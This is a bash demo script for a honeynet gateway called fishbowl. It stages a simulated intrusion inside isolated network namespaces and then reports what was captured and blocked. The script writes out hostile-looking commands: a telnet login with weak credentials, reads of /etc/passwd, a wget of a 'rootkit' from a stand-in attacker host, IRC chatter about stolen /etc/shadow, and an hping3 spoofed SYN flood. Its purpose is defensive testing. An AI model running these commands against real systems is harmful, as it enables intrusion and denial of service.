#!/bin/bash
# demo: a honeynet in network namespaces with fishbowl as its gateway, a
# scripted intrusion, what fishbowl recorded and what it stopped.
#
#   the Internet (203.0.113.0/24, attacker 203.0.113.66, a "toolkit" web
#   server) --- fishbowl (transparent bridge) --- honeypot 10.99.0.130
#   running real services: a web server (80) and a login service (23)
#
# The attack: an nmap SYN scan, a telnet login (a real telnetd, a real
# telnet client driven by expect) and a few commands typed; then,
# from the compromised honeypot, a toolkit fetched over HTTP and over FTP
# (vsftpd), a chat on IRC (ngircd, two channels), more downloads until the
# limit (5 new TCP connections an hour) blocks the honeypot, a spoofed SYN
# flood (hping3) and a ping out (ICMP is blocked).  Then `fishbowl status`, a
# summary of the capture and of what the capture layers recovered
# (transcripts, keystrokes, IRC lines, carved files and their SHA-256, the
# honeypot's syslog received by fishbowl's log server on a management link
# of its own), and
# the data directory left in demo/out/.  Run as root (make demo).
set -u
cd "$(dirname "$0")/.." || exit 1
ROOT=$PWD
FB_BUILD=${FB_BUILD:-build}
case $FB_BUILD in /*) ;; *) FB_BUILD=$ROOT/$FB_BUILD ;; esac
FISHBOWL=$FB_BUILD/fishbowl
OUT=$ROOT/demo/out

die() { echo "demo: $*" >&2; exit 1; }
[ "$(id -u)" = 0 ] || die "run as root (network namespaces)"
[ -x "$FISHBOWL" ] || die "no $FISHBOWL (run make first)"
for t in ip nmap curl hping3 tcpdump python3 socat ss vsftpd ngircd sha256sum expect telnet; do
	command -v $t >/dev/null || die "$t is missing (scripts/deps.sh installs it)"
done

FBN_PREFIX=fbdemo$$
FBN_FISHBOWL=$FISHBOWL
. "$ROOT/tests/netns/lib-netns.sh"
fbn_init || die "cannot make a work directory"
W=$FBN_WORK
T="python3 $W/tools.py"
HP=$FBN_HP_ADDR

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
say() { printf '   %s\n' "$*"; }

step "1. the honeynet: outside (Internet + router), gateway, honeypot namespaces"
fbn_up || die "cannot build the namespaces"
say "outside: router $FBN_RTR_ADDR, attacker $FBN_ATTACKER, toolkit server 203.0.113.80"
say "honeypot: $HP, default route via $FBN_RTR_ADDR; fishbowl bridges gwo <-> gwh (no addresses)"

# The honeypot's services: a web site and a login service with a toy shell.
mkdir -p "$W/www" "$W/toolkit"
echo "<h1>ACME intranet</h1>" >"$W/www/index.html"
head -c 20000 /dev/urandom >"$W/toolkit/rootkit.tar.gz"
cat >"$W/login.py" <<'EOF'
# The honeypot's login program: telnetd runs it on the pty it negotiated.
import sys, termios
w = sys.stdout.write
def line():
    s = sys.stdin.readline()
    if not s:
        sys.exit(0)
    return s.strip()
def echo(on):
    a = termios.tcgetattr(0)
    a[3] = a[3] | termios.ECHO if on else a[3] & ~termios.ECHO
    termios.tcsetattr(0, termios.TCSANOW, a)
w("\nDebian GNU/Linux 12 acme-web\nacme-web login: "); sys.stdout.flush()
user = line()
echo(False)
w("Password: "); sys.stdout.flush()
line()
echo(True)
w("\nLast login: Thu Nov 26 09:12:01 2026 from 10.99.0.1\n")
answers = {
    "id": "uid=1000(%s) gid=1000(%s) groups=1000(%s)" % (user, user, user),
    "uname -a": "Linux acme-web 6.1.0-13-amd64 #1 SMP Debian x86_64 GNU/Linux",
    "w": " 09:14:02 up 41 days,  1 user,  load average: 0.00, 0.01, 0.00",
    "cat /etc/passwd": "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin",
}
while True:
    w("%s@acme-web:~$ " % user); sys.stdout.flush()
    c = line()
    if c in ("exit", "logout"):
        w("logout\n"); break
    w(answers.get(c, "") + ("\n" if c in answers else ""))
    if c.startswith("wget"):
        w("Connecting to 203.0.113.80:80... connected.\n")
    sys.stdout.flush()
EOF
# The attacker types, one key at a time, with a typo corrected by DEL.
cat >"$W/attack.exp" <<'EOF'
set timeout 10
log_user 0
proc want {pat} {
	expect {
		-ex $pat {}
		timeout { puts "   (no \"$pat\" from the honeypot)"; exit 1 }
		eof { exit 1 }
	}
}
proc type {s} {
	foreach c [split $s ""] { send -- $c; after 20 }
}
spawn telnet [lindex $argv 0] 23
want "login: "
type "admin\r"
want "Password: "
type "admin123\r"
foreach cmd {"id" "unamx\177e -a" "w" "cat /etc/passwd" "wget http://203.0.113.80/rootkit.tar.gz"} {
	want "$ "
	type "$cmd\r"
}
want "$ "
type "exit\r"
expect eof
puts "   the attacker logged in by telnet, typed 5 commands (one typo fixed with DEL), left"
EOF
fbn_bg "$FBN_HP" python3 -m http.server -d "$W/www" -b 0.0.0.0 80 >/dev/null 2>&1
# A real telnetd (inetutils), started per connection as inetd would.  Its
# reverse lookup is answered from a hosts file of the honeypot's namespace,
# so no DNS query leaves the honeypot.
NSETC=/etc/netns/$FBN_HP
mkdir -p "$NSETC"
printf '127.0.0.1 localhost\n%s attacker\n%s acme-web\n' "$FBN_ATTACKER" "$HP" >"$NSETC/hosts"
printf 'nameserver 127.0.0.1\n' >"$NSETC/resolv.conf"
trap 'fbn_cleanup; rm -rf "$NSETC"; rmdir /etc/netns 2>/dev/null' EXIT
printf '#!/bin/sh\nexec /usr/bin/python3 -u %s/login.py\n' "$W" >"$W/login.sh"
chmod 0755 "$W/login.sh"
fbn_bg "$FBN_HP" socat TCP-LISTEN:23,fork,reuseaddr \
    EXEC:"/usr/sbin/telnetd -h -E $W/login.sh",nofork
fbn_bg "$FBN_OUT" python3 -m http.server -d "$W/toolkit" -b 0.0.0.0 80 >/dev/null 2>&1
# The Internet's FTP server (anonymous, the toolkit again) and IRC server.
mkdir -p "$W/ftp/pub" "$W/vsftpd-empty"
cp "$W/toolkit/rootkit.tar.gz" "$W/ftp/pub/"
head -c 30000 /dev/urandom | gzip -c >"$W/ftp/pub/scanner.tgz"
cat >"$W/vsftpd.conf" <<EOF
listen=YES
listen_address=203.0.113.21
background=NO
anonymous_enable=YES
local_enable=NO
write_enable=NO
anon_root=$W/ftp
no_anon_password=YES
secure_chroot_dir=$W/vsftpd-empty
seccomp_sandbox=NO
pasv_enable=YES
pasv_address=203.0.113.21
pasv_min_port=40000
pasv_max_port=40100
xferlog_enable=NO
EOF
chmod 0755 "$W/ftp" "$W/ftp/pub"
fbn_bg "$FBN_OUT" vsftpd "$W/vsftpd.conf"
cat >"$W/ngircd.conf" <<EOF
[Global]
Name = irc.darknet.test
Info = a channel for friends
Listen = 203.0.113.7
Ports = 6667
PidFile = $W/ngircd.pid
MotdPhrase = welcome, friends
[Options]
DNS = no
Ident = no
PAM = no
EOF
fbn_bg "$FBN_OUT" sh -c "exec ngircd -n -f '$W/ngircd.conf' >'$W/ngircd.log' 2>&1"
for p in 80 23; do fbn_wait_port "$FBN_HP" $p || die "honeypot service $p did not start"; done
fbn_wait_port "$FBN_OUT" 80 || die "toolkit server did not start"
fbn_wait_port "$FBN_OUT" 21 || die "FTP server did not start"
fbn_wait_port "$FBN_OUT" 6667 || die "IRC server did not start"
say "honeypot services: http (80), telnet (23, inetutils telnetd)"
say "outside: toolkit web server 203.0.113.80, FTP server 203.0.113.21, IRC server 203.0.113.7"

step "2. fishbowl starts as the gateway (and as the honeynet's log server)"
# The log server listens on a management link of its own (192.0.2.0/30
# between gateway and honeypot): the bridge legs keep no address.
ip link add gwl netns "$FBN_GW" type veth peer name h1 netns "$FBN_HP" &&
    inG ip addr add 192.0.2.1/30 dev gwl && inG ip link set gwl up &&
    inH ip addr add 192.0.2.2/30 dev h1 && inH ip link set h1 up ||
    die "cannot make the log link"
fbn_conf demo <<'EOF'
[control]
tcp = 5/hour
udp = 3/hour
icmp = block
other = block
rate = 512kbit

[logserver]
listen = udp:192.0.2.1:514, tcp:192.0.2.1:514
EOF
sed 's/^/   /' "$FBN_CONF"
fbn_start || die "fishbowl did not start: $(tail -5 "$FBN_FB_LOG")"
say "fishbowl run -c $FBN_CONF   (pid $FBN_FB_PID, control socket $FBN_SOCK)"

step "3. the attacker scans the honeypot (nmap -sS from $FBN_ATTACKER)"
inO nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1024 $HP 2>&1 | grep -E '^[0-9]+/tcp|scanned' | sed 's/^/   /'

step "4. the attacker logs in by telnet and looks around"
inO expect "$W/attack.exp" $HP || say "(the telnet session did not finish)"
# The honeypot's shell logs each command to syslog (PROMPT_COMMAND style),
# which goes to the log server over UDP and TCP.
inH logger -n 192.0.2.1 -P 514 --udp -t bash -p local1.notice "HISTORY: PID=4242 UID=1000 id"
inH logger -n 192.0.2.1 -P 514 --tcp --octet-count -t bash -p local1.notice \
    "HISTORY: PID=4242 UID=1000 wget http://203.0.113.80/rootkit.tar.gz"
inH logger -n 192.0.2.1 -P 514 --tcp -t sshd -p auth.info "Accepted password for admin from 203.0.113.66"
say "the honeypot's syslog sent 3 messages to fishbowl's log server (192.0.2.1:514)"

step "5. the intruder, on the honeypot, fetches a toolkit over HTTP and FTP"
fetch() {	# label url
	if inH curl -s -m 3 -o /dev/null -w '%{response_code} %{size_download}' "$2" \
	    >"$W/curl.out" 2>/dev/null; then
		say "$1: code $(cut -d' ' -f1 "$W/curl.out"), $(cut -d' ' -f2 "$W/curl.out") bytes"
	else
		say "$1: failed (connection timed out)"
	fi
}
fetch "http://203.0.113.80/rootkit.tar.gz" http://203.0.113.80/rootkit.tar.gz
fetch "ftp://203.0.113.21/pub/scanner.tgz (control + data connection)" \
    ftp://203.0.113.21/pub/scanner.tgz
say "SHA-256 of what the servers hold:"
(cd "$W/toolkit" && sha256sum rootkit.tar.gz; cd "$W/ftp/pub" && sha256sum scanner.tgz) |
    sed 's/^/     /'

step "6. the intruder joins IRC (#ops, #loot) and reports in"
cat >"$W/irc.py" <<'EOF'
import socket, sys, time
s = socket.create_connection(("203.0.113.7", 6667), timeout=5)
buf = b""
def wait_for(what):
    global buf
    while what not in buf:
        d = s.recv(4096)
        if not d:
            return
        buf += d
def send(line, wait=None):
    s.sendall(line.encode() + b"\r\n")
    if wait:
        wait_for(wait.encode())
send("NICK r00t")
send("USER r00t 0 * :owned", " 001 ")
send("JOIN #ops", "JOIN :#ops")
send("JOIN #loot", "JOIN :#loot")
send("PRIVMSG #ops :new box up: acme-web 10.99.0.130, root via telnet")
send("PRIVMSG #loot :\x01ACTION uploads /etc/shadow\x01")
send("TOPIC #ops :acme-web is ours")
send("QUIT :brb")
time.sleep(0.5)
s.close()
EOF
if inH python3 "$W/irc.py"; then say "IRC: joined #ops and #loot, 2 messages, a topic, quit"; else say "IRC failed"; fi

step "7. more downloads: the limit (5 new TCP connections an hour) blocks the honeypot"
for i in 1 2 3; do
	fetch "download $i" http://203.0.113.80/rootkit.tar.gz
done

step "8. the intruder floods a victim with spoofed SYNs (hping3 -a 198.51.100.7, 500 packets)"
fbn_tcpdump "$FBN_OUT" o0 "$W/victim.pcap" 'host 198.51.100.7' || true
inH hping3 -q -S -a 198.51.100.7 -p 80 -c 500 -i u1000 203.0.113.99 >/dev/null 2>&1
sleep 0.3
fbn_tcpdump_stop
say "frames from 198.51.100.7 seen on the Internet side: $(fbn_count "$W/victim.pcap")"

step "9. the intruder pings out (icmp = block)"
say "sent, answered: $(inH $T ping 203.0.113.80 3 0.2 0.5)"

step "10. fishbowl status"
"$FISHBOWL" status -s "$FBN_SOCK" | sed 's/^/   /'
fbn_stop || say "(fishbowl exited non-zero: see $FBN_FB_LOG)"

step "11. what was captured and what was blocked"
rm -rf "$OUT"
mkdir -p "$OUT"
cp -r "$FBN_DATA" "$OUT/data"
cp "$FBN_CONF" "$OUT/fishbowl.conf"
cp "$FBN_FB_LOG" "$OUT/fishbowl.log"
frames=0
for f in "$OUT"/data/????-??-??/packets/*.pcap; do
	[ -f "$f" ] && frames=$((frames + $(tcpdump -n -r "$f" 2>/dev/null | wc -l)))
done
python3 - "$OUT/data" "$frames" <<'EOF'
import glob, json, sys, collections
d, frames = sys.argv[1], sys.argv[2]
def rd(name):
    out = []
    for p in sorted(glob.glob(d + "/????-??-??/" + name)):
        for l in open(p):
            try:
                out.append(json.loads(l))
            except ValueError:
                pass
    return out
C, A = rd("conn.jsonl"), rd("alerts.jsonl")
p = lambda s: print("   " + s)
p("packets: %s frames in %d pcap file(s)" % (frames, len(glob.glob(d + "/*/packets/*.pcap"))))
by = collections.Counter((c.get("dir"), c.get("proto"), c.get("verdict")) for c in C)
p("connections: %d records" % len(C))
for (di, pr, v), k in sorted(by.items(), key=lambda x: -x[1]):
    p("  %6d %-8s %-5s %s" % (k, di, pr, v))
inb = [c for c in C if c.get("dir") == "inbound"]
p("inbound: %d connections from %s to %d distinct ports" % (
    len(inb), ",".join(sorted(set(c.get("src", "?") for c in inb))),
    len(set(c.get("dport") for c in inb))))
out = [c for c in C if c.get("dir") == "outbound"]
for c in sorted(out, key=lambda c: c.get("ts", "")):
    p("outbound: %s %s:%s -> %s:%s  %s (%s)" % (c.get("proto"), c.get("src"), c.get("sport"),
      c.get("dst"), c.get("dport"), c.get("verdict"), c.get("reason")))
pa = collections.Counter((a.get("prio"), a.get("type")) for a in A)
p("alerts: %d" % len(A))
order = {"critical": 0, "high": 1, "medium": 2, "low": 3}
for (pr, ty), k in sorted(pa.items(), key=lambda x: (order.get(x[0][0], 9), x[0][1])):
    p("  %6d %-8s %s" % (k, pr, ty))
for a in A:
    if a.get("prio") == "critical" or a.get("type") == "state":
        p("  %s %-8s %s" % (a.get("ts", "")[11:19], a.get("prio"), a.get("msg")))
EOF
say ""
say "everything is in demo/out/: data/ (pcap, conn.jsonl, alerts.jsonl, state), fishbowl.conf, fishbowl.log"
say "try: tcpdump -n -r demo/out/data/*/packets/00001.pcap 'tcp port 23' -A | less"
step "12. what the capture layers recovered"
python3 - "$OUT/data" <<'EOF'
import glob, json, os, sys
d = sys.argv[1]
def rd(name):
    out = []
    for p in sorted(glob.glob(d + "/????-??-??/" + name)):
        for l in open(p, errors="replace"):
            try:
                out.append(json.loads(l))
            except ValueError:
                pass
    return out
p = lambda s: print("   " + s)
S = rd("sessions.jsonl")
p("sessions: %d transcripts in sessions/ (protocol guessed from content)" % len(S))
for s in S:
    p("  %-7s %-8s %s:%s -> %s:%s  %d/%d bytes  %s" % (s.get("protocol"), s.get("dir"),
      s.get("src"), s.get("sport"), s.get("dst"), s.get("dport"),
      s.get("bytes_orig", 0), s.get("bytes_resp", 0), s.get("transcript") or ""))
login = [s for s in S if s.get("dport") == 23 and s.get("transcript")]
if login:
    p("the login session's transcript (first lines):")
    with open(os.path.join(d, login[0]["transcript"]), errors="replace") as f:
        for i, l in enumerate(f):
            if i >= 14:
                break
            p("  | " + l.rstrip("\n"))
K = rd("keystrokes.jsonl")
p("keystrokes: %d lines typed" % len(K))
for k in K:
    p("  %s %-7s %s" % (k.get("ts", "")[11:19], k.get("source"), k.get("line")))
Y = rd("syslog.jsonl")
p("syslog: %d messages (log server and wire)" % len(Y))
for y in Y:
    p("  %s %-6s %-5s %-6s %s" % (y.get("ts", "")[11:19], y.get("source"), y.get("transport", ""),
      y.get("app", ""), y.get("msg", y.get("message", ""))))
I = rd("irc.jsonl")
p("IRC: %d messages" % len(I))
for m in I:
    if m.get("command") in ("NICK", "JOIN", "PRIVMSG", "TOPIC", "QUIT") and m.get("dir", "").startswith("from"):
        p("  %s %-7s %-6s %s %s" % (m.get("ts", "")[11:19], m.get("command"), m.get("nick", ""),
          m.get("target", m.get("channel", m.get("new_nick", ""))),
          m.get("text", m.get("ctcp", ""))))
F = rd("files.jsonl")
p("files carved into files/: %d" % len(F))
for f in F:
    p("  %s %8s bytes %-24s %s %s" % (f.get("sha256"), f.get("size"), f.get("mime", ""),
      f.get("name", f.get("url", "")), "complete" if f.get("complete") else "truncated"))
EOF
say ""
say "compare the SHA-256 above with those the servers hold (step 5)"

step "13. cleaning up the namespaces"
